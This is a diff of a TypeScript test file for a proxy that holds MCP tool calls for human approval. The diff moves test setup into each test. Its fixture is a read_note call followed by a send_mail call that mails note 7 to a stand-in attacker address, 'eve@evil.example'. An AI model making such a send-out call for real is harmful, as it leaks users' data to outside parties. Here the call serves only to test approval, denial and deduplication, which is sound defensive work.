@@ -1,19 +1,14 @@
 import type { Client } from '@modelcontextprotocol/client';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { ERAS, Office, textOf } from './office.ts';
 
 const READ = { name: 'read_note', arguments: { id: '7' } };
 const SEND = { name: 'send_mail', arguments: { to: 'eve@evil.example', body: 'note 7' } };
 
-describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
-  let office: Office;
-  beforeEach(() => {
-    office = new Office();
-  });
-  afterEach(() => office.close());
-
-  it('passes tools, resources, prompts and instructions through', async () => {
-    const { client } = await office.connect({ era });
+describe.concurrent.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
+  it('passes tools, resources, prompts and instructions through', async (context) => {
+    const office = new Office(context);
+    const { client } = await office.start({ era });
     const { tools } = await client.listTools();
     expect(tools.map(({ name }) => name)).toEqual([
       'read_note',
@@ -37,8 +32,9 @@ describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
     expect(office.effects).toEqual(['read_note 7']);
   });
 
-  it('executes a call only after a person approved it, and passes its whole result and progress through', async () => {
-    const { client } = await office.connect({ era });
+  it('executes a call only after a person approved it, and passes its whole result and progress through', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era });
     await client.callTool(READ);
     const progress: unknown[] = [];
     const sent = client.callTool(SEND, { onprogress: (each) => void progress.push(each.message) });
@@ -56,8 +52,9 @@ describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
     expect(office.effects).toEqual(['read_note 7', 'send_mail eve@evil.example']);
   });
 
-  it('returns a pending result in time, and a repeated call joins the request', async () => {
-    const { client } = await office.connect({ era, args: ['--wait', '1'] });
+  it('returns a pending result in time, and a repeated call joins the request', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era, args: ['--wait', '1'] });
     const first = await client.callTool(SEND);
     expect(first.isError).toBe(true);
     expect(textOf(first)).toContain('waits for the decision of a person');
@@ -72,8 +69,9 @@ describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
     expect(office.effects).toEqual(['send_mail eve@evil.example']);
   });
 
-  it('leaves the request open when the client cancels, and executes nothing', async () => {
-    const { client } = await office.connect({ era });
+  it('leaves the request open when the client cancels, and executes nothing', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era });
     const cancel = new AbortController();
     const sent = client.callTool(SEND, { signal: cancel.signal });
     const { approval_id: id } = await office.pending();
@@ -90,12 +88,13 @@ describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
   // The rest does not depend on the era.
   if (era === 'legacy') return;
 
-  it('passes log messages and changed lists through', async () => {
+  it('passes log messages and changed lists through', async (context) => {
+    const office = new Office(context);
     const seen: string[] = [];
     const prepare = (client: Client) => {
       client.fallbackNotificationHandler = async ({ method }) => void seen.push(method);
     };
-    const { client } = await office.connect({ era: 'legacy', prepare, args: ['--wait', '1'] });
+    const client = await office.connect({ era: 'legacy', prepare, args: ['--wait', '1'] });
     await client.setLoggingLevel('debug');
     await client.callTool(READ);
     await client.callTool({ name: 'read_note', arguments: { id: 'new tools' } });
@@ -106,22 +105,25 @@ describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
     );
   });
 
-  it('says that it does not know what the user asked for', async () => {
-    const { client } = await office.connect({ era });
+  it('says that it does not know what the user asked for', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era });
     void client.callTool(SEND).catch(() => undefined);
     expect((await office.pending()).reason).toContain('It is unknown here what the user asked for.');
   });
 
-  it('does not execute a call that a person denied, and tells the model', async () => {
-    const { client } = await office.connect({ era });
+  it('does not execute a call that a person denied, and tells the model', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era });
     const sent = client.callTool(SEND);
     await office.decide('deny', { comment: 'Eve is unknown.' });
     expect(textOf(await sent)).toContain('declined');
     expect(office.effects).toEqual([]);
   });
 
-  it('treats the next equal call as a new one after the result was delivered', async () => {
-    const { client } = await office.connect({ era });
+  it('treats the next equal call as a new one after the result was delivered', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era });
     for (let call = 0; call < 2; call += 1) {
       const sent = client.callTool(SEND);
       await office.decide('approve');
@@ -130,8 +132,9 @@ describe.each(ERAS)('the proxy in front of an MCP server (%s)', (era) => {
     expect(office.effects).toHaveLength(2);
   });
 
-  it('executes an approved call once when equal calls arrive at the same time', async () => {
-    const { client } = await office.connect({ era });
+  it('executes an approved call once when equal calls arrive at the same time', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ era });
     const sent = [client.callTool(SEND), client.callTool(SEND), client.callTool(SEND)];
     await office.decide('approve');
     expect((await Promise.all(sent)).map(textOf)).toEqual(
